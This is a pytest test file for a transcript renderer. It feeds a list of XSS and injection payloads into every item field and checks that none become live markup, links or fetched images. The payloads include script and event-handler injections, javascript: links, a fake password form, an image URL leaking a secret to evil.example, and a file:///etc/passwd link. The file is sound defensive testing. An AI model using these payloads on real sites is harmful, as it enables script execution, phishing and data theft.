"""Whatever is written in an item, it stays text: nothing it holds becomes markup, loads, leads away or hides."""

import pytest

from tests.items.reading import Element, shown

TAGS = {
    "a", "b", "blockquote", "br", "button", "code", "dd", "details", "div", "dl", "dt", "em", "h2", "h3", "h4", "h5",
    "h6", "header", "hr", "i", "kbd", "li", "ol", "p", "pre", "s", "section", "span", "strong", "summary", "table",
    "tbody", "td", "th", "thead", "time", "tr", "ul",
}  # fmt: skip
CLASSES = {
    "absent", "address", "assistant", "at", "bad", "beside", "block", "button", "call", "center", "chunk", "cite",
    "error", "facts", "failed", "figure", "fold", "gap", "go", "input", "item-head", "item-part", "item-tools",
    "json", "judged", "key", "label", "language", "line", "long", "mark", "markdown", "masked", "media", "messages",
    "model", "mono", "more", "muted", "name", "name-step", "no-image", "no-link", "no-print", "nothing", "number",
    "object", "of", "other", "output", "passage", "passage-head", "passages", "place", "plain", "prose", "quiet",
    "reading", "result", "retrieval", "right", "said", "small", "source", "step", "step-part", "steps", "steps-sum",
    "string", "system", "table-wrap", "tag", "text", "thought", "took", "tool", "tree", "turn", "turns", "user",
    "value", "who", "word", "written",
}  # fmt: skip
ATTRIBUTES = {
    "aria-hidden", "aria-keyshortcuts", "aria-label", "aria-pressed", "class", "data-href", "data-item-heading",
    "data-local", "data-mark", "data-means", "data-raw", "data-search", "data-step", "data-target", "data-who",
    "datetime", "dir", "draggable", "href", "id", "open", "role", "start", "tabindex", "title", "type",
}  # fmt: skip

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    '<a href="javascript:alert(1)">x</a>',
    "<style>*{display:none}</style><link rel=stylesheet href=//evil>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "</div></section></main><h1>Signed out</h1><form action=//evil><input name=password>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "<!-- --><![CDATA[<b>]]><?php ?><!DOCTYPE x>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt&colon;alert(1)) [x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [x](file:///etc/passwd) [x](//evil.example/a) [x](/accounts/logout/) [x](#review)",
    '[x](http://a.example/"onclick="alert(1)) [x](<http://a.example/" onclick="alert(1)>)',
    "![x](https://evil.example/p.png?d=secret) ![x][r]\n\n[r]: https://evil.example/q.png 'title\" onload=alert(1)'",
    "<https://evil.example/?secret> https://evil.example/auto www.evil.example evil@evil.example",
    '``` "><script>alert(1)</script>\ncode\n```',
    "```\tclass=\"button primary\" style='x'\ncode\n```",
    "| a | b |\n|:-:|--:|\n| <b>x</b> | [x](javascript:1) |",
    "# <b>Heading</b> {.button #review onclick=alert(1)}",
    "{: .button }\n:::danger\n[x]{.button}\n:::",
    "[EMAIL_1<b>] [EMAIL_1] [<b>1</b>] [1\"onclick=alert(1)] 【1†<script>】",
    "\u202egnp.exe\u202c \u2066x\u2069 a\u200bb \U000e0068\U000e0069",
    "&#x202e;gnp.exe &ZeroWidthSpace;x &Tab;&NewLine;",
    "{{ 7*7 }} {% include 'x' %} ${7*7} <%= 7 %>",
    "\x1b[31mred\x07\x08\x7f\x85",
]  # fmt: skip


def everywhere(text: str) -> dict[str, object]:
    """Return fields of an item that hold a text in every place there is for one."""
    call = {"name": text, "arguments": text}
    passage = {"id": text, "title": text, "source": text, "text": text, text: text, "k": [text]}
    return {
        "external_id": text,
        "input": [
            {"role": "system", "content": text},
            {"role": text, "content": [{"type": "text", "text": text}, {"type": text, text: text}], "name": text},
            {"role": "assistant", "content": None, "tool_calls": [{"id": text, "function": call}]},
            {"role": "assistant", "content": [{"type": "thinking", "thinking": text}, {"type": "image", "url": text}]},
            {"role": "user", "content": [{"type": "tool_use", **call}, {"type": "tool_result", "content": text}]},
            {"role": "tool", "tool_call_id": text, "content": text, text: text},
        ],
        "output": text,
        "context": {"documents": [passage], text: text},
        "steps": [
            {"name": text, "kind": "retrieval", "output": [text, text]},
            {"name": text, "kind": "tool", "input": {text: text}, "output": text, "error": {text: text}},
            {"name": text, "kind": "other", "output": f"[{text}] line\n[2] line", "error": text},
        ],
        "metadata": {text: [text, {text: text}]},
        "model": text,
        "decision": text,
    }


def check(element: Element) -> None:
    """Insist that an element and all below it are what the renderer may make."""
    for one in element.all():
        assert one.tag in TAGS
        assert one.attributes.keys() - ATTRIBUTES == set()
        assert one.classes - CLASSES == set()
        assert one.attributes.get("href", "#t1-x").startswith("#t1-"), one
        assert one.attributes.get("data-href", "https://").startswith(("http://", "https://")), one
        assert one.attributes.get("type", "button") == "button"
        if "data-href" not in one.attributes and one.tag == "button":
            assert {"data-raw", "data-search", "data-step"} & one.attributes.keys()


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_nothing_in_an_item_becomes_markup(attack):
    check(shown(**everywhere(attack)))


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_all_attacks_in_one_text_do_no_more(attack):
    check(shown(**everywhere(f"{attack}\n\n" + "\n\n".join(reversed(ATTACKS)))))


def test_an_address_is_told_behind_the_text_that_hides_it():
    item = shown(output="Sign in at [https://bank.example](https://evil.example/x) or [here](mailto:a@b.example).")
    assert [one.text for one in item.all("span", "address")] == ["https://evil.example/x", "mailto:a@b.example"]
    assert [one.text for one in item.all("button", "go")] == ["https://bank.example"]
    assert [one.text for one in item.all("span", "no-link")] == ["here"]


def test_a_long_address_is_cut_and_its_length_told():
    (address,) = shown(output=f"[x](https://evil.example/{'a' * 400})").all("span", "address")
    assert address.text.endswith("… (421 characters)")


def test_an_image_is_named_and_not_fetched():
    item = shown(output="![a chart](https://evil.example/p.png) ![](https://evil.example/q.png)")
    assert [one.text for one in item.all("span", "no-image")] == [
        "Image, not shown: a chart",
        "Image, not shown: no description",
    ]


def test_only_the_fields_that_are_handed_in_come_out():
    assert "SECRET" not in shown(input="a", output="b", trace_id="SECRET").text
